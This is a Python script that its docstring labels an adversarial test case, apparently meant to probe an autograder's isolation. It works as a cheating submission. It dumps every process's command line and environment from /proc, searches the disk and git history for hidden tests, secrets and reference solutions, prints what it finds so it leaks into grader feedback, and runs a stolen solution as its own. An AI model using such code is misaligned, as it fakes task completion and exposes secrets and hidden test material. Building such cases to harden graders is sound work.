"""A cheat that hunts for the course instead of serving (adversarial case).

Everything it finds goes to stdout and stderr, so that a grader which let
it see anything would carry it into the feedback; a solution it finds is
run in its place. It gives up after a few seconds of searching."""

import os
import runpy
import subprocess
import sys
import time

DEADLINE = time.monotonic() + 3
LOOK_FOR = ("canary", "secret", "test_hidden", "solutions", "manifest.toml")


def show(label, data):
    text = data[:4000] if isinstance(data, str) else data[:4000].decode("utf-8", "replace")
    for stream in (sys.stdout, sys.stderr):
        print(f"[found] {label}: {text}", file=stream, flush=True)


def read(path):
    try:
        with open(path, "rb") as f:
            return f.read(4000)
    except OSError:
        return None


def cheat_with(path):
    show("running the solution", path)
    sys.argv = [path, *sys.argv[1:]]
    runpy.run_path(path, run_name="__main__")
    sys.exit(0)


starts = {sys.prefix, sys.base_prefix, sys.executable, os.getcwd(), os.path.expanduser("~"),
          "/work", "/root", "/home", "/srv", "/opt", "/tmp", "/var/tmp", "/usr/src", "/mnt"}
for value in os.environ.values():
    starts.update(word for word in value.split(os.pathsep) if word.startswith("/"))
for pid in os.listdir("/proc"):
    if not pid.isdigit():
        continue
    for name in ("cmdline", "environ"):
        data = read(f"/proc/{pid}/{name}")
        if data:
            text = data.replace(b"\0", b" ").decode("utf-8", "replace")
            show(f"/proc/{pid}/{name}", text)
            starts.update(word for word in text.split() if word.startswith("/"))
    try:
        starts.add(os.readlink(f"/proc/{pid}/cwd"))
    except OSError:
        pass

folders = set()
for start in starts:
    path = start
    while path not in ("/", ""):
        folders.add(path)
        path = os.path.dirname(path)
for top in sorted(folders, key=len):
    for dirpath, dirnames, filenames in os.walk(top):
        if time.monotonic() > DEADLINE:
            break
        if dirpath.count("/") - top.count("/") > 5:
            dirnames[:] = []
        dirnames[:] = [d for d in dirnames if d not in ("proc", "sys", "site-packages", "dist-packages")]
        if ".git" in dirnames:
            done = subprocess.run(["git", "-C", dirpath, "show",
                                   "HEAD:solutions/01_tcp_server/tcp_server.py"],
                                  capture_output=True)
            if done.returncode == 0:
                stolen = os.path.join(os.getcwd(), "stolen.py")
                with open(stolen, "wb") as f:
                    f.write(done.stdout)
                cheat_with(stolen)
        for name in filenames:
            path = os.path.join(dirpath, name)
            if path.endswith("solutions/01_tcp_server/tcp_server.py"):
                cheat_with(path)
            if any(word in path for word in LOOK_FOR) or name == "tcp_server.py" \
                    and dirpath != os.getcwd():
                data = read(path)
                if data:
                    show(path, data)
sys.exit(1)
